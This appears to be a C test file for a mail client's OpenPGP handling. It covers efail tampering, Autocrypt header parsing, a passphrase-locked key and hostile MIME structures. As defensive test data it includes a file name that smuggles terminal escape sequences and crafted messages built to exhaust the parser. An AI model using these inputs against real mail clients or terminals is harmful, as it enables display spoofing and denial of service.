			     "efail: a tampered ciphertext fails, no plaintext");
			crypto_result_free(&r);
		}
		free(t);
	}

	/* an embedded file name with terminal escapes */
	if (sh("gpg --batch --yes -r %s --armor --set-filename \"$(printf 'x\\033]0;owned\\007.txt')\" -o %s/f.asc --encrypt %s/n.txt",
	       alice_fpr, home, home) == 0) {
		c = get("f.asc");
		buf_reset(&msg);
		headers(&msg, "Alice <alice@example.test>", NULL);
		buf_addf(&msg, "Content-Type: text/plain\r\n\r\n%s", c.data);
		r = analyze(&msg);
		T_OK(r && r->file_name && strchr(r->file_name, '\033') == NULL &&
		             strchr(r->file_name, '\007') == NULL && strstr(r->file_name, "owned"),
		     "spoof: an embedded file name with escapes is made safe");
		crypto_result_free(&r);
		{
			char *j = inspect_of(&msg);

			T_OK(strchr(j, '\033') == NULL && strchr(j, '\007') == NULL,
			     "spoof: no escape reaches inspect's output");
			free(j);
		}
		buf_release(&c);
	}
out:
	buf_release(&out);
	buf_release(&msg);
}

static void test_autocrypt(void)
{
	struct buf key, msg = BUF_INIT, kd = BUF_INIT, b64 = BUF_INIT;
	char addr[128], err[WARY_ERRLEN];
	struct mail_msg *m = NULL;
	struct crypto_result *r;
	bool mutual = false;

	sh("gpg --batch --yes -o %s/bob.gpg --export %s", home, bob_fpr);
	key = get("bob.gpg");
	sh("base64 -w 60 %s/bob.gpg | tee %s/bob.b64", home, home);
	b64 = get("bob.b64");
	for (size_t i = 0; i < b64.len; i++)
		if (b64.data[i] == '\n')
			b64.data[i] = ' ';
	buf_init(&msg);
	headers(&msg, "Bob <bob@example.test>", NULL);
	buf_addf(&msg, "Autocrypt: addr=bob@example.test; prefer-encrypt=mutual; keydata=\r\n %s\r\n"
	               "Content-Type: text/plain\r\n\r\nhi\r\n", b64.data);
	if (mail_parse(msg.data, msg.len, &m, err, sizeof(err)) == WARY_OK) {
		buf_init(&kd);
		T_INT(crypto_autocrypt(m, &kd, addr, sizeof(addr), &mutual), WARY_OK,
		      "autocrypt: the sender's header is taken");
		T_OK(kd.len == key.len && memcmp(kd.data, key.data, kd.len) == 0 && mutual &&
		             strcmp(addr, "bob@example.test") == 0,
		     "autocrypt: keydata, addr and prefer-encrypt read");
		mail_free(&m);
	}
	r = analyze(&msg);
	T_OK(r && has_flag(r, CRYPTO_F_AUTOCRYPT) && r->signed_scope == CRYPTO_SCOPE_NONE && !r->valid,
	     "autocrypt: flagged, and a header is no signature");
	crypto_result_free(&r);
	/* not the From address */
	buf_reset(&msg);
	headers(&msg, "Alice <alice@example.test>", NULL);
	buf_addf(&msg, "Autocrypt: addr=bob@example.test; keydata=%s\r\n\r\nhi\r\n", b64.data);
	if (mail_parse(msg.data, msg.len, &m, err, sizeof(err)) == WARY_OK) {
		buf_reset(&kd);
		T_INT(crypto_autocrypt(m, &kd, NULL, 0, NULL), WARY_ENOENT,
		      "autocrypt: a header for another address than From is ignored");
		mail_free(&m);
	}
	/* an unknown critical attribute */
	buf_reset(&msg);
	headers(&msg, "Bob <bob@example.test>", NULL);
	buf_addf(&msg, "Autocrypt: addr=bob@example.test; type=9; keydata=%s\r\n\r\nhi\r\n", b64.data);
	if (mail_parse(msg.data, msg.len, &m, err, sizeof(err)) == WARY_OK) {
		buf_reset(&kd);
		T_INT(crypto_autocrypt(m, &kd, NULL, 0, NULL), WARY_EPARSE,
		      "autocrypt: an unknown critical attribute makes it unusable");
		mail_free(&m);
	}
	/* two headers */
	buf_reset(&msg);
	headers(&msg, "Bob <bob@example.test>", NULL);
	buf_addf(&msg, "Autocrypt: addr=bob@example.test; keydata=%s\r\nAutocrypt: addr=bob@example.test; keydata=AAAA\r\n\r\nhi\r\n",
	         b64.data);
	if (mail_parse(msg.data, msg.len, &m, err, sizeof(err)) == WARY_OK) {
		buf_reset(&kd);
		T_INT(crypto_autocrypt(m, &kd, NULL, 0, NULL), WARY_ENOENT,
		      "autocrypt: two headers: neither is taken");
		mail_free(&m);
	}
	buf_release(&key);
	buf_release(&msg);
	buf_release(&kd);
	buf_release(&b64);
}

/* A secret key behind a passphrase, under the pager's rule (no
 * pinentry): refused cleanly, no plaintext, no wait. */
static void test_locked_key(void)
{
	char dora[64] = "", err[WARY_ERRLEN];
	struct crypto *np = NULL;
	struct buf c, msg = BUF_INIT;
	struct mail_msg *m = NULL;
	struct crypto_result *r = NULL;

	if (sh("gpg --batch --pinentry-mode loopback --passphrase sesame --quick-gen-key "
	       "'Dora <dora@example.test>' ed25519 sign,cert never") != 0) {
		t_skip("a locked key", "gpg cannot make a key with a passphrase here");
		return;
	}
	fpr_of("dora@example.test", dora, sizeof(dora));
	sh("gpg --batch --pinentry-mode loopback --passphrase sesame --quick-add-key %s cv25519 encr never",
	   dora);
	put("d.txt", "secret for dora\n", 16);
	sh("gpg --batch --yes --trust-model always -r %s --armor -o %s/d.asc --encrypt %s/d.txt", dora,
	   home, home);
	/* forget the passphrase the agent may have kept from making the key */
	sh("gpgconf --reload gpg-agent");
	c = get("d.asc");
	buf_init(&msg);
	headers(&msg, "Dora <dora@example.test>", NULL);
	buf_addf(&msg, "Content-Type: text/plain\r\n\r\n%s", c.data);
	if (crypto_new(&np, err, sizeof(err)) == WARY_OK &&
	    mail_parse(msg.data, msg.len, &m, err, sizeof(err)) == WARY_OK) {
		crypto_no_pinentry(np);
		(void)crypto_analyze(np, m, &r, err, sizeof(err));
		T_OK(r && r->plain == NULL && has_flag(r, CRYPTO_F_DECRYPT_FAILED) && r->error &&
		             strstr(r->error, "locked"),
		     "a locked secret key: no pinentry, a clear error, no plaintext");
		if (r && r->error)
			printf("# %s\n", r->error);
		crypto_result_free(&r);
	}
	mail_free(&m);
	crypto_free(&np);
	sh("gpg --batch --yes --delete-secret-and-public-key %s", dora);
	buf_release(&c);
	buf_release(&msg);
}

/* Hostile structures: many signed parts, deep nesting, armour that
 * never ends.  Only the first signed part is checked; nothing is valid. */
static void test_hostile(void)
{
	struct buf msg = BUF_INIT;
	struct crypto_result *r;
	struct timespec t0, t1;
	const char *sig = "-----BEGIN PGP SIGNATURE-----\r\n\r\niHUEARYKAB0WIQ==\r\n-----END PGP SIGNATURE-----\r\n";

	buf_init(&msg);
	headers(&msg, "Alice <alice@example.test>", NULL);
	buf_adds(&msg, "Content-Type: multipart/mixed; boundary=\"mx\"\r\n\r\n");
	for (int i = 0; i < 2000; i++)
		buf_addf(&msg, "--mx\r\nContent-Type: multipart/signed; protocol=\"application/pgp-signature\"; "
		               "boundary=\"s%d\"\r\n\r\n--s%d\r\nContent-Type: text/plain\r\n\r\nx\r\n--s%d\r\n"
		               "Content-Type: application/pgp-signature\r\n\r\n%s--s%d--\r\n", i, i, i, sig, i);
	buf_adds(&msg, "--mx--\r\n");
	clock_gettime(CLOCK_MONOTONIC, &t0);
	r = analyze(&msg);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_PART && !r->valid && has_flag(r, CRYPTO_F_NESTED_IGNORED),
	     "hostile: 2000 signed parts: a part, the rest ignored, not valid");
	T_OK((t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000 < 5000,
	     "hostile: 2000 signed parts judged in under 5 s (one gpg call)");
	crypto_result_free(&r);

	buf_reset(&msg);
	headers(&msg, "Alice <alice@example.test>", NULL);
	for (int i = 0; i < 40; i++)
		buf_addf(&msg, "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; "
		               "boundary=\"d%d\"\r\n\r\n--d%d\r\n", i, i);
	buf_adds(&msg, "Content-Type: text/plain\r\n\r\ndeep\r\n");
	r = analyze(&msg);
	T_OK(r && !r->valid, "hostile: multipart/signed nested 40 deep: not valid, no crash");
	crypto_result_free(&r);

	buf_reset(&msg);
	headers(&msg, "Alice <alice@example.test>", NULL);
	buf_adds(&msg, "Content-Type: text/plain\r\n\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\n");
	for (int i = 0; i < 20000; i++)
		buf_adds(&msg, "-----BEGIN PGP MESSAGE-----\r\n");
	r = analyze(&msg);
	T_OK(r && r->signed_scope == CRYPTO_SCOPE_NONE && r->encrypted_scope == CRYPTO_SCOPE_NONE &&
	             !r->valid,
	     "hostile: armour that never ends is nothing");
	crypto_result_free(&r);
	buf_release(&msg);
}

static void test_keys(void)
{
	char err[WARY_ERRLEN];
	struct buf b = BUF_INIT, sum = BUF_INIT, fprs = BUF_INIT;
	struct crypto_key k;

	buf_init(&b);
	buf_init(&sum);
	buf_init(&fprs);
	T_INT(crypto_key_describe(cr, alice_fpr, &b, err, sizeof(err)), WARY_OK, "keys: describe alice");
	T_OK(strstr(b.data, alice_fpr) && strstr(b.data, "ultimate") && strstr(b.data, "alice@example.test"),
	     "keys: details name the fingerprint, validity and UID");
	T_INT(crypto_key_get(cr, "0123456789ABCDEF0123456789ABCDEF01234567", &k, err, sizeof(err)),
	      WARY_ENOENT, "keys: an unknown fingerprint is ENOENT");
	T_INT(crypto_import(cr, "not a key", 9, &sum, &fprs, err, sizeof(err)), WARY_EPARSE,
	      "keys: importing garbage fails");
	/* export bob, delete him, import him again */
	sh("gpg --batch --yes --armor -o %s/bob.asc --export %s", home, bob_fpr);
	buf_release(&b);
	b = get("bob.asc");
	T_INT(crypto_import(cr, b.data, b.len, &sum, &fprs, err, sizeof(err)), WARY_OK,
	      "keys: import an armoured key");
	T_OK(strstr(fprs.data, bob_fpr) != NULL, "keys: import names the fingerprint");
	buf_release(&b);
	buf_release(&sum);
	buf_release(&fprs);
	test_autocrypt();
}

int main(void)
{
	struct buf signed_msg = BUF_INIT, entity = BUF_INIT;

	buf_init(&signed_msg);
	buf_init(&entity);
	if (!setup()) {
		/* without gpg there is nothing to test against; with it, a
		 * failed set-up is a failure */
		if (sh("gpg --version") != 0)
			t_skip("crypto", "gpg is not installed");
		else
			T_OK(0, "set-up: keys made in a throwaway GNUPGHOME");
		goto done;
	}
	test_sign_roundtrip(&signed_msg, &entity);
	test_encrypt_roundtrip();
	test_gpg_made();
	test_spoofing(&signed_msg, &entity);
	test_unknown_key();
	test_efail();
	test_locked_key();
	test_hostile();
	test_keys();
done:
	crypto_free(&cr);
	if (home[0]) {
		sh("gpgconf --kill all");
		sh("rm -rf '%s'", home);
	}
	buf_release(&signed_msg);
	buf_release(&entity);
	return t_done();
}
